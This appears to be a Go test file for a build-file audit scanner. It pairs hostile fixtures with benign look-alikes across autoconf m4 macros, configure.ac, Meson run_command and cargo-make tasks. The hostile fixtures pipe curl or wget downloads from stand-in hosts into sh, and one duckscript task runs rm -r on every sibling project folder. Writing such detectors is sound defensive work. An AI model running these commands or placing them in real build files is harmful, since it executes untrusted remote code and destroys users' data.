package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestSets6465dReadings: the readings added for red-team sets 64 and 65
// (helper d), each with a hostile case at its severity and a benign
// look-alike:
//   - an autoconf m4 macro whose AS_IF runs a fetched script piped into
//     sh at every ./configure (download-exec), against one that runs a
//     script the project ships;
//   - a Meson run_command of sh -c 'curl "$2" | sh' whose URL is a
//     meson.options default (download-exec), against one that runs a
//     shipped script;
//   - a cargo-make duckscript task rm -r'ing every folder beside the
//     project that holds a Cargo.toml (destructive-command), against one
//     removing the project's own target/part-* folders and named
//     sibling worktrees; and a @shell task piping curl into sh.
func TestSets6465dReadings(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	m4 := func(run string) string {
		return "# AX_AUX_REFRESH([DIR])\n#serial 2\nAC_DEFUN([AX_AUX_REFRESH], [\n  AC_REQUIRE([AC_CANONICAL_HOST])\n  AC_ARG_VAR([AX_OFFLINE], [set to 1 to skip the refresh])\n  AC_CACHE_CHECK([whether aux scripts are current], [ax_cv_aux], [\n    ax_cv_aux=no\n    AS_IF([test \"x$AX_OFFLINE\" != \"x1\"], [\n      _ax_src=\"http://198.51.100.7/aux\"\n      AS_IF([command -v curl >/dev/null 2>&1],\n            [_ax_get=\"curl -fsSL\"],\n            [_ax_get=\"wget -qO-\"])\n      AS_IF([" + run + " >&AS_MESSAGE_LOG_FD 2>&1],\n            [ax_cv_aux=yes])\n    ])\n  ])\n  AS_IF([test \"x$ax_cv_aux\" = \"xno\"], [AC_MSG_WARN([using the shipped ]m4_default([$1], [build-aux])[ scripts])])\n])\n"
	}
	meson := func(script string) map[string]string {
		return map[string]string{
			"meson.build":           "project('app', 'c')\nsubdir('build-aux')\n",
			"meson.options":         "option('tool_channel', type: 'string',\n  value: 'https://tools.example/stable/bootstrap.sh',\n  description: 'where the tool is refreshed from')\n",
			"build-aux/meson.build": "# configure-time checks\nchannel = get_option('tool_channel')\ntool_dir = meson.project_build_root() / 'tool'\nr = run_command('sh', '-c',\n  '" + script + "',\n  'sh', tool_dir, channel,\n  check: false,\n)\n",
		}
	}
	checkByRule(t, map[string]sev4041{
		"hostile/m4-asif-fetch-sh":  {"download-exec", "m4/ax_aux_refresh.m4", m4(`$_ax_get \"$_ax_src/refresh.sh\" | sh -s -- \"$host\"`), crit},
		"benign/m4-asif-shipped":    {"download-exec", "m4/ax_aux_refresh.m4", m4(`sh \"$srcdir/build-aux/refresh.sh\" \"$host\"`), none},
		"hostile/configure-ac-pipe": {"download-exec", "configure.ac", "AC_INIT([app], [1.0])\nAS_IF([test -n \"$BOOT\"], [curl -fsSL https://boot.example/i.sh | sh])\nAC_OUTPUT\n", crit},
		"benign/configure-ac-msg":   {"download-exec", "configure.ac", "AC_INIT([app], [1.0])\nAS_IF([test -n \"$BOOT\"], [AC_MSG_NOTICE([run: curl -fsSL https://boot.example/i.sh | sh])])\nAC_OUTPUT\n", none},
	})
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/meson-run-command-curl-sh": {meson(`mkdir -p \"$1\" && curl -fsSL \"$2\" | PREFIX=\"$1\" sh -s -- --quiet`), crit},
		"benign/meson-run-command-shipped":  {meson(`mkdir -p \"$1\" && sh build-aux/bootstrap.sh \"$1\"`), none},
	})

	duck := func(glob string) string {
		return "[config]\nskip_core_tasks = true\n\n[tasks.clean]\nscript_runner = \"@duckscript\"\nscript = '''\nroot = get_env CARGO_MAKE_WORKING_DIRECTORY\nparent = dirname ${root}\nparts = glob_array ${root}/target/part-*\nfor dir in ${parts}\n    rm -r ${dir}\nend\nmanifests = glob_array " + glob + "\nfor manifest in ${manifests}\n    dir = dirname ${manifest}\n    rm -r ${dir}\nend\n'''\n\n[tasks.test]\ndependencies = [\"clean\"]\n"
	}
	shellTask := func(cmd string) string {
		return "[tasks.setup]\nscript_runner = \"@shell\"\nscript = '''\n" + cmd + "\n'''\n"
	}
	checkByRule(t, map[string]sev4041{
		"hostile/duckscript-sibling-wipe":  {"destructive-command", "Makefile.toml", duck("${parent}/*/Cargo.toml"), crit},
		"benign/duckscript-named-siblings": {"destructive-command", "Makefile.toml", duck("${parent}/app-part-*/Cargo.toml"), none},
		"hostile/cargo-make-shell-curl-sh": {"download-exec", "Makefile.toml", shellTask("curl -fsSL https://tools.example/i.sh | sh"), crit},
		"benign/cargo-make-shell-local":    {"download-exec", "Makefile.toml", shellTask("sh scripts/setup.sh"), none},
	})
}
